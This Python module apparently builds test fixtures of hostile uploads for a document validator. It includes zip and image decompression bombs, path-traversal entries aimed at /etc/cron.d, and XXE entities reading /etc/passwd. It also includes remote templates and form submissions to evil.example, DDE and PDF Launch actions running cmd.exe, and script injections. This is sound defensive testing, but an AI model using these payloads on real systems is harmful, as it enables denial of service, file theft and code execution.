"""Files made to hurt: each small enough to be brought, none ever committed.

Each goes through the real page of papers; what is wrong with it is said in a sentence, and
nothing of it is kept (`test_hostile_files.py`).
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from making import docx, of_objects, package, paragraph, pdf, relations, stream, xlsx

_BIG = 64 * 1024 * 1024
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


# --- packages ------------------------------------------------------------------------------


def bomb() -> bytes:
    """One part that unpacks to 64 MB of blanks."""
    return docx(more={"word/comments.xml": b" " * _BIG})


def nested_bombs() -> bytes:
    """Packages inside a package, as a spreadsheet inside a chart is."""
    inner = package({"a.xml": b" " * _BIG})
    for _ in range(3):
        inner = package({f"{n}.zip": inner for n in range(4)})
    return docx(more={"word/embeddings/a.zip": inner})


def many_parts() -> bytes:
    """More parts than anybody writes."""
    return docx(more={f"word/p{n}.xml": b"<a/>" for n in range(5000)})


def overlapping_parts() -> bytes:
    """Every entry of the directory points at the same bytes (Fifield 2019)."""
    whole = bytearray(docx(more={f"word/c{n}.xml": b" " * 4_000_000 for n in range(20)}))
    start = whole.find(b"PK\x01\x02")
    first = None
    while (at := whole.find(b"PK\x01\x02", start)) >= 0:
        name = bytes(whole[at + 46 : at + 46 + struct.unpack_from("<H", whole, at + 28)[0]])
        if name.startswith(b"word/c"):
            offset = struct.unpack_from("<I", whole, at + 42)[0]
            first = offset if first is None else first
            struct.pack_into("<I", whole, at + 42, first)
        start = at + 46
    return bytes(whole)


def lying_size() -> bytes:
    """The directory says a part is ten bytes; it unpacks to 64 MB."""
    whole = bytearray(bomb())
    at = whole.rfind(b"PK\x01\x02")
    struct.pack_into("<I", whole, at + 24, 10)
    return bytes(whole)


def climbing_names() -> bytes:
    """Parts that would land outside, were they ever unpacked."""
    return docx(more={"../../etc/cron.d/x": b"* * * * * root id"})


def rooted_names() -> bytes:
    return docx(more={"/etc/passwd": b"root"})


def same_name_twice() -> bytes:
    """One document for whoever looks, another for whoever opens it."""
    out = io.BytesIO(docx(paragraph("Ufarlig")))
    with zipfile.ZipFile(out, "a") as packed:
        packed.writestr("WORD/document.xml", f'<w:document xmlns:w="{_W}"/>')
    return out.getvalue()


def locked_parts() -> bytes:
    whole = bytearray(docx())
    at = -1
    while (at := whole.find(b"PK\x01\x02", at + 1)) >= 0:
        whole[at + 8] |= 1
    return bytes(whole)


def torn_package() -> bytes:
    return docx(paragraph("x" * 5000))[:-300]


# --- XML -----------------------------------------------------------------------------------


def _with(document: bytes) -> bytes:
    parts = dict(_parts(docx()))
    parts["word/document.xml"] = document
    return package(parts)


def _parts(content: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        return [(name, packed.read(name)) for name in packed.namelist()]


def billion_laughs() -> bytes:
    laughs = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    )
    return _with(f'<!DOCTYPE x [{laughs}]><w:p xmlns:w="{_W}"><w:t>&a9;</w:t></w:p>'.encode())


def quadratic_blowup() -> bytes:
    body = "&a;" * 40_000
    return _with(f'<!DOCTYPE x [<!ENTITY a "{"a" * 40_000}">]><x>{body}</x>'.encode())


def reads_a_file() -> bytes:
    return _with(b"<!DOCTYPE x [<!ENTITY f SYSTEM 'file:///etc/passwd'>]><x>&f;</x>")


def asks_a_server() -> bytes:
    return _with(b"<!DOCTYPE x SYSTEM 'http://127.0.0.1:9/x.dtd'><x/>")


def parameter_entities() -> bytes:
    return _with(b"<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://127.0.0.1:9/p'> %p;]><x/>")


def deep_nesting() -> bytes:
    return _with(b"<a>" * 200_000 + b"</a>" * 200_000)


def no_xml() -> bytes:
    return _with(b"<w:document><w:p></w:document>")


def utf_7() -> bytes:
    return _with(b"<?xml version='1.0' encoding='utf-7'?>+ADw-x+AD4-")


# --- Word and Excel that do something ------------------------------------------------------


def macros() -> bytes:
    return docx(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def macro_type() -> bytes:
    parts = dict(_parts(docx()))
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"openxmlformats-officedocument.wordprocessingml.document.main",
        b"ms-word.document.macroEnabled.main",
    )
    return package(parts)


def controls() -> bytes:
    return docx(more={"word/activeX/activeX1.xml": b"<a/>"})


def ole_object() -> bytes:
    return docx(more={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})


def remote_template() -> bytes:
    to = relations(("attachedTemplate", "https://evil.example/t.dotm"), external=True)
    return docx(more={"word/_rels/settings.xml.rels": to})


def template_on_a_share() -> bytes:
    to = relations(("attachedTemplate", "file:///\\\\evil\\share\\t.dotm"), external=True)
    return docx(more={"word/_rels/settings.xml.rels": to})


def linked_picture() -> bytes:
    to = relations(("image", "http://evil.example/pixel.png"), external=True)
    return docx(more={"word/_rels/document.xml.rels": to})


def page_inside() -> bytes:
    return docx(more={"word/_rels/document.xml.rels": relations(("aFChunk", "a.xml"))})


def dde_field() -> bytes:
    field = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
    return docx(f"<w:p><w:r><w:instrText>{field}</w:instrText></w:r></w:p>")


def other_workbook() -> bytes:
    parts = dict(_parts(xlsx([["a"]])))
    parts["xl/externalLinks/externalLink1.xml"] = b"<externalLink/>"
    return package(parts)


def old_word() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)


# --- PDF -----------------------------------------------------------------------------------


def _catalogue(**keys: str) -> bytes:
    return pdf("Hei", more=keys)


def script() -> bytes:
    return _catalogue(OpenAction="<</S/JavaScript/JS(app.alert(1))>>")


def hidden_script() -> bytes:
    """Its name written with escapes, in an object no page leads to."""
    return of_objects(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Kids[]/Count 0>>",
            "<</S/J#61vaScript/#4A#53(x)>>",
        ]
    )


def launches() -> bytes:
    return _catalogue(OpenAction="<</S/Launch/F(cmd.exe)>>")


def sends_a_form() -> bytes:
    return _catalogue(AA="<</WC<</S/SubmitForm/F(http://evil.example)>>>>")


def holds_a_file() -> bytes:
    return _catalogue(Names="<</EmbeddedFiles<</Names[(a.exe)<</EF<</F 1 0 R>>>>]>>>>")


def looping_pages() -> bytes:
    return of_objects(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            "<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>",
        ]
    )


_ON_PAGE = "/Parent 2 0 R/MediaBox[0 0 9 9]"


def looping_form() -> bytes:
    """A drawing that draws itself."""
    form = stream(
        b"/F Do", "/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources<</XObject<</F 4 0 R>>>>"
    )
    return of_objects(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            f"<</Type/Page{_ON_PAGE}/Contents 5 0 R/Resources<</XObject<</F 4 0 R>>>>>>",
            form,
            stream(b"/F Do"),
        ]
    )


def endless_pages() -> bytes:
    kids = "3 0 R " * 200_000
    return of_objects(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            f"<</Type/Pages/Kids[{kids}]/Count 200000>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        ]
    )


def swollen_stream() -> bytes:
    """A page whose content is packed twice and unpacks to hundreds of megabytes."""
    packed = zlib.compress(zlib.compress(bytes(400 * 1024 * 1024), 9), 9)
    return of_objects(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>",
            stream(packed, "/Filter[/FlateDecode/FlateDecode]"),
        ]
    )


def deep_arrays() -> bytes:
    return _catalogue(X="[" * 100_000 + "]" * 100_000)


def torn_pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<<"


def pdf_and_package() -> bytes:
    return pdf("Hei") + docx()


def pdf_and_page() -> bytes:
    return pdf("Hei") + b"<html><script>alert(1)</script></html>"


def page_in_pdf() -> bytes:
    return b"%PDF-1.7\n<script>alert(1)</script>\n" + pdf("Hei")[9:]


# --- pictures ------------------------------------------------------------------------------


def _png(width: int, height: int, data: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body))
            + kind
            + body
            + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


def picture_bomb() -> bytes:
    return _png(60_000, 60_000, zlib.compress(bytes(1000)))


def broken_png() -> bytes:
    return _png(20, 20, b"nothing packed")


def torn_jpeg() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(40)


def swollen_note() -> bytes:
    """A PNG with a text that unpacks to a hundred megabytes."""
    note = b"a\0\0" + zlib.compress(bytes(100 * 1024 * 1024), 9)
    whole = _png(2, 2, zlib.compress(bytes(14)))
    chunk = struct.pack(">I", len(note)) + b"zTXt" + note
    chunk += struct.pack(">I", zlib.crc32(b"zTXt" + note))
    return whole[:33] + chunk + whole[33:]


# --- other kinds, and none -----------------------------------------------------------------


def nothing() -> bytes:
    return b""


def program() -> bytes:
    return b"MZ\x90\x00\x03" + bytes(200)


def nuls() -> bytes:
    return b"navn;nummer\n\0\0\0Kari"


def picture_with_script() -> bytes:
    """An animation of a kind we do not take."""
    return b"GIF89a/*\x00*/=1;alert(1)"


def bare_package() -> bytes:
    return package({"a.txt": b"a"})


def slow_pages() -> bytes:
    """Pages whose letters are a table of all there are, read anew for each page."""
    table = stream(
        b"1 begincodespacerange <0000> <ffff> endcodespacerange\n"
        b"1 beginbfrange <0000> <ffff> <0000> endbfrange"
    )
    font = "<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/ToUnicode 3 0 R>>"
    kids = [f"{n} 0 R" for n in range(6, 906)]
    page = f"<</Type/Page{_ON_PAGE}/Contents 5 0 R/Resources<</Font<</F 4 0 R>>>>>>"
    return of_objects(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            f"<</Type/Pages/Kids[{' '.join(kids)}]/Count {len(kids)}>>",
            *(table, font, stream(b"BT /F 1 Tf <0041> Tj ET")),
            *(page for _ in kids),
        ]
    )


def endless_cells() -> bytes:
    """Some kilobytes that unpack to millions of cells."""
    return _sheet(b"<row>" + b"<c><v>1</v></c>" * 3_500_000 + b"</row>")


def _sheet(rows: bytes) -> bytes:
    parts = dict(_parts(xlsx([["a"]])))
    head = f'<worksheet xmlns="{_S}"><dimension ref="A1:XFD1048576"/><sheetData>'
    parts["xl/worksheets/sheet1.xml"] = head.encode() + rows + b"</sheetData></worksheet>"
    return package(parts)


def widest_sheet() -> bytes:
    """One cell in the last corner: a reader that makes room for all before it is lost."""
    return _sheet(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


# Each with the code of what is said about it.
HOSTILE: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "bomb.docx": (bomb, "file.too_much_inside"),
    "nested.docx": (nested_bombs, "file.embedded"),
    "parts.docx": (many_parts, "file.too_much_inside"),
    "overlap.docx": (overlapping_parts, "file.damaged"),
    "lying.docx": (lying_size, "file.damaged"),
    "climbing.docx": (climbing_names, "file.damaged"),
    "rooted.docx": (rooted_names, "file.damaged"),
    "twice.docx": (same_name_twice, "file.damaged"),
    "locked-parts.docx": (locked_parts, "file.damaged"),
    "torn.docx": (torn_package, "file.damaged"),
    "laughs.docx": (billion_laughs, "file.damaged"),
    "quadratic.docx": (quadratic_blowup, "file.damaged"),
    "file-entity.docx": (reads_a_file, "file.damaged"),
    "http-entity.docx": (asks_a_server, "file.damaged"),
    "parameter.docx": (parameter_entities, "file.damaged"),
    "deep.docx": (deep_nesting, "file.too_much_inside"),
    "no-xml.docx": (no_xml, "file.damaged"),
    "utf7.docx": (utf_7, "file.damaged"),
    "macros.docx": (macros, "file.macros"),
    "macro-type.docx": (macro_type, "file.macros"),
    "controls.docx": (controls, "file.macros"),
    "ole.docx": (ole_object, "file.macros"),
    "template.docx": (remote_template, "file.fetches"),
    "share.docx": (template_on_a_share, "file.fetches"),
    "picture.docx": (linked_picture, "file.fetches"),
    "chunk.docx": (page_inside, "file.embedded"),
    "dde.docx": (dde_field, "file.fetches"),
    "workbook.xlsx": (other_workbook, "file.fetches"),
    "old.doc": (old_word, "file.old_or_locked"),
    "script.pdf": (script, "file.runs"),
    "hidden.pdf": (hidden_script, "file.runs"),
    "launch.pdf": (launches, "file.runs"),
    "form.pdf": (sends_a_form, "file.runs"),
    "attached.pdf": (holds_a_file, "file.embedded"),
    "loop.pdf": (looping_pages, "file.damaged"),
    "endless.pdf": (endless_pages, "file.damaged"),
    "swollen.pdf": (swollen_stream, "file.damaged"),
    "arrays.pdf": (deep_arrays, "file.damaged"),
    "torn.pdf": (torn_pdf, "file.damaged"),
    "package.pdf": (pdf_and_package, "file.two_in_one"),
    "page.pdf": (pdf_and_page, "file.two_in_one"),
    "page-in.pdf": (page_in_pdf, "file.two_in_one"),
    "bomb.png": (picture_bomb, "file.picture_too_large"),
    "broken.png": (broken_png, "file.damaged"),
    "torn.jpg": (torn_jpeg, "file.damaged"),
    "note.png": (swollen_note, "file.damaged"),
    "nothing.pdf": (nothing, "file.empty"),
    "program.pdf": (program, "paper.unknown_kind"),
    "nuls.csv": (nuls, "paper.unknown_kind"),
    "animation.png": (picture_with_script, "paper.unknown_kind"),
    "bare.docx": (bare_package, "paper.unknown_kind"),
}

# Nothing wrong with them but that nobody has the time.
ENDLESS: Mapping[str, Callable[[], bytes]] = {
    "slow.pdf": slow_pages,
    "cells.xlsx": endless_cells,
}

# Odd, and yet nothing to refuse: looked through like any other.
ODD: Mapping[str, Callable[[], bytes]] = {
    "loop-form.pdf": looping_form,
    "wide.xlsx": widest_sheet,
    "utf-16.csv": lambda: "sted;antall\nsentrum;7\n".encode("utf-16"),
}
